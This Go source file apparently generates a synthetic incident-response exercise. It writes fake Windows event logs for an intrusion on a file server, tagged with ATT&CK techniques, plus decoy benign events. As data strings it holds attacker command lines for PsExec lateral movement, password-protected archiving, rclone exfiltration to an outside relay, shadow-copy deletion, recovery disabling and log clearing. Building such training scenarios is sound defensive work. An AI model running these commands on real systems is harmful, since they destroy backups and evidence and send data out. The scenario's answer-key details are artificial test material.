package ferry

import (
	"time"

	ew "adjutant/backend/scenario/evtxwriter"
)

// attackFileServer is the second night on FS01: remote service, archive, copy to the outside. All times are true; the
// files of FS01 show them seven minutes later.
func (b *builder) attackFileServer() {
	m, book, d := b.fs, b.book, newDice(b.seed, streamOthers+6)
	sys := m.asSystem()

	s := b.step(Step{ID: "S16", Title: "A remote service is installed on FS01 and gives a shell", Tactic: "Lateral Movement", Techniques: []string{"T1021.002", "T1569.002"},
		Host: "FS01", User: "svc-backup", Find: "service PSEXESVC installed (7045); PSEXESVC.exe starts cmd.exe; SMB connection from a workstation"})
	at := day(2, 1, 52, 14)
	tool := book.start(at, b.implant, `C:\Users\Public\psexec64.exe`, `C:\Users\Public\psexec64.exe \\FS01 -accepteula -u KRAGSUND\svc-backup -s cmd.exe`, b.deskUser, s)
	book.connect(at.Add(600*time.Millisecond), tool, m.ip, m.fqdn, 445, s)
	b.dc.service4769(at.Add(500*time.Millisecond), b.user("svc-backup"), "FS01$", book.ip, s)
	share := m.logon(b.user("svc-backup"))
	from := origin{"WS-BOOK07", book.ip, 58_377}
	m.logon4624(at.Add(700*time.Millisecond), share, 3, "NTLM", from, s) // lost: cleared on day 3
	m.share5145(at.Add(900*time.Millisecond), share, from, "ADMIN$", `C:\Windows`, "PSEXESVC.exe", s)
	m.fileCreate(at.Add(time.Second), &proc{pid: 4, image: "System", by: sys}, `C:\Windows\PSEXESVC.exe`, s)
	m.regSet(at.Add(1200*time.Millisecond), m.system0, `HKLM\System\CurrentControlSet\Services\PSEXESVC\ImagePath`, `%SystemRoot%\PSEXESVC.exe`, s)
	m.service7045(at.Add(1300*time.Millisecond), share.sid, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "demand start", "LocalSystem", s)
	m.state7036(at.Add(1500*time.Millisecond), "PSEXESVC", "running", s)
	quiet := *m // process starts are not audited on FS01
	quiet.security = nil
	svc := quiet.start(at.Add(1600*time.Millisecond), nil, `C:\Windows\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`, sys, s)
	shell := quiet.start(at.Add(2*time.Second), svc, cmdExe, `"cmd.exe"`, sys, s)

	s = b.step(Step{ID: "S19", Title: "Booking backups and the dump are packed with a password", Tactic: "Collection", Techniques: []string{"T1560.001", "T1074.001"},
		Host: "FS01", User: "SYSTEM", Find: "rar.exe a -hp or 7z a -p over a share"})
	at = day(2, 3, 10, 20)
	rar := quiet.start(at, shell, `C:\PerfLogs\rar.exe`, `C:\PerfLogs\rar.exe a -hpKr4g!sund -v500m -m1 D:\Shares\Public\~tmp\t.rar D:\Shares\Booking\Backups\*.bak D:\Shares\Public\~tmp\b.dump`, sys, s)
	for i := range 9 {
		quiet.fileCreate(at.Add(time.Duration(20+41*i)*time.Second), rar, `D:\Shares\Public\~tmp\t.part`+string(rune('1'+i))+`.rar`, s)
	}
	quiet.start(day(2, 3, 19, 2), shell, `C:\Program Files\7-Zip\7z.exe`, `"C:\Program Files\7-Zip\7z.exe" a -pKr4g!sund D:\Shares\Public\~tmp\crew.7z "D:\Shares\Personnel"`, sys, s)

	s = b.step(Step{ID: "S20", Title: "4.3 GB leave for an outside server", Tactic: "Exfiltration", Techniques: []string{"T1048"},
		Host: "FS01", User: "SYSTEM", Find: "bytes out to one outside address far above the host's ordinary traffic; rclone command line"})
	at = day(2, 3, 35, 12)
	clone := quiet.start(at, shell, `C:\PerfLogs\rclone.exe`, `C:\PerfLogs\rclone.exe copy D:\Shares\Public\~tmp relay:in --config C:\PerfLogs\r.conf --transfers 1 --no-check-certificate`, sys, s)
	quiet.dns(at.Add(time.Second), clone, exfilHost, exfilIP, s)
	for i := range 9 {
		t := d.jitter(at.Add(time.Duration(5*i)*time.Minute), 50*time.Second)
		quiet.connect(t, clone, exfilIP, exfilHost, 443, s)
		b.firewall.add(t, firewallLine(t, "allow", m.ip, d.between(49152, 65000), exfilIP, 443, 468_000_000+int64(d.n(22_000_000)), int64(d.between(120_000, 400_000)), "lan-out-web"), s)
	}
	m.nextPID = quiet.nextPID
}

// destroy is the third night on FS01: shadow copies and logs.
func (b *builder) destroy() {
	m := b.fs
	sys := m.asSystem()
	quiet := *m
	quiet.security = nil

	s := b.step(Step{ID: "S25", Title: "Second remote service; shadow copies and recovery are removed", Tactic: "Impact", Techniques: []string{"T1490", "T1569.002"},
		Host: "FS01", User: "helpdesk2", Find: "service with %COMSPEC% in its path; vssadmin delete shadows; wmic shadowcopy delete; bcdedit recoveryenabled no"})
	at := day(3, 1, 58, 9)
	m.service7045(at, b.intruder().sid, "KRGHLP", `%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__out 2^>^&1 > %TEMP%\run.bat & %COMSPEC% /Q /c %TEMP%\run.bat`, "demand start", "LocalSystem", s)
	shell := quiet.start(at.Add(time.Second), nil, cmdExe, `C:\Windows\system32\cmd.exe /Q /c C:\Windows\TEMP\run.bat`, sys, s)
	quiet.start(day(3, 2, 2, 11), shell, `C:\Windows\System32\vssadmin.exe`, `vssadmin delete shadows /all /quiet`, sys, s)
	quiet.start(day(3, 2, 2, 40), shell, `C:\Windows\System32\wbem\WMIC.exe`, `wmic shadowcopy delete /nointeractive`, sys, s)
	quiet.start(day(3, 2, 3, 5), shell, `C:\Windows\System32\bcdedit.exe`, `bcdedit /set {default} recoveryenabled no`, sys, s)

	s = b.step(Step{ID: "S26", Title: "Security and Application logs of FS01 are cleared", Tactic: "Defense Evasion", Techniques: []string{"T1070.001"},
		Host: "FS01", User: "helpdesk2", Find: "1102 in Security, 104 in System; wevtutil cl"})
	by := ew.Subject{SID: b.intruder().sid, User: "helpdesk2", Domain: netbios, LogonID: 0x5f3a1c7}
	quiet.start(securityCleared.Add(-500*time.Millisecond), shell, `C:\Windows\System32\wevtutil.exe`, `wevtutil cl Security`, sys, s)
	m.security.add(securityCleared, ew.SecurityCleared(securityCleared, m.fqdn, by, 1188, 4032), s)
	quiet.start(applicationCleared.Add(-500*time.Millisecond), shell, `C:\Windows\System32\wevtutil.exe`, `wevtutil cl Application`, sys, s)
	m.system.add(applicationCleared, ew.LogCleared(applicationCleared, m.fqdn, "Application", by, 1188, 4036), s)
	m.nextPID = quiet.nextPID
	b.truth.Cleared = []Cleared{
		{Host: "FS01", Channel: "Security", File: m.security.path, At: securityCleared, AtFile: m.clock(securityCleared), GapFrom: First},
		{Host: "FS01", Channel: "Application", At: applicationCleared, AtFile: m.clock(applicationCleared), GapFrom: First},
	}
}

// decoys are harmless things that look like the attack; a person decides what they are.
func (b *builder) decoys() {
	b.step(Step{ID: "D2", Title: "Nightly dump of the booking database by the backup job", Host: "DB01", User: "backup"})
	b.step(Step{ID: "D3", Title: "Administrator logs in to the cloud console with a second factor", Host: "cloud", User: "it-admin"})

	book, fs := b.book, b.fs
	s := b.step(Step{ID: "D1", Title: "The monitoring agent runs an encoded PowerShell command every night", Host: "WS-BOOK07", User: "SYSTEM"})
	agent := &proc{pid: 2044, image: `C:\Program Files\Monitor\agent.exe`, cmd: `"C:\Program Files\Monitor\agent.exe"`, by: book.asSystem()}
	for n := range 3 {
		book.start(day(n+1, 0, 15, 4), agent, powershell, `powershell.exe -NoProfile -NonInteractive -EncodedCommand `+encodedCommand(`Import-Module 'C:\Program Files\Monitor\Checks.psm1'; Invoke-Check -Name disk`), book.asSystem(), s)
	}
	s = b.step(Step{ID: "D4", Title: "The backup agent lists shadow copies", Host: "FS01", User: "SYSTEM"})
	quiet := *fs
	quiet.security = nil
	backup := &proc{pid: 1980, image: `C:\Program Files\Backup\backupd.exe`, cmd: `"C:\Program Files\Backup\backupd.exe"`, by: fs.asSystem()}
	for n := range 3 {
		quiet.start(day(n+1, 0, 30, 2), backup, `C:\Windows\System32\vssadmin.exe`, `vssadmin list shadows`, fs.asSystem(), s)
	}
	s = b.step(Step{ID: "D5", Title: "A printer driver installs a service", Host: "FS01", User: "SYSTEM"})
	fs.service7045(day(1, 9, 12, 55), "S-1-5-18", "Desk Printer Spool Monitor", `"C:\Program Files\DeskPrinter\monitor.exe"`, "auto start", "LocalSystem", s)
	s = b.step(Step{ID: "D6", Title: "The administrator makes a scheduled task for updates", Host: "WS-OPS02", User: "adm-jholm"})
	admin := b.ops.logon(b.user("adm-jholm"))
	b.ops.start(day(1, 12, 3, 18), nil, `C:\Windows\System32\schtasks.exe`, `schtasks /create /tn "\Kragsund\Weekly updates" /tr "C:\Program Files\Kragsund\Update\update.exe" /sc weekly`, admin, s)
	b.ops.task4698(day(1, 12, 3, 19), admin, `\Kragsund\Weekly updates`, `<?xml version="1.0" encoding="UTF-16"?><Task version="1.2"><Actions><Exec><Command>C:\Program Files\Kragsund\Update\update.exe</Command></Exec></Actions></Task>`, s)
}
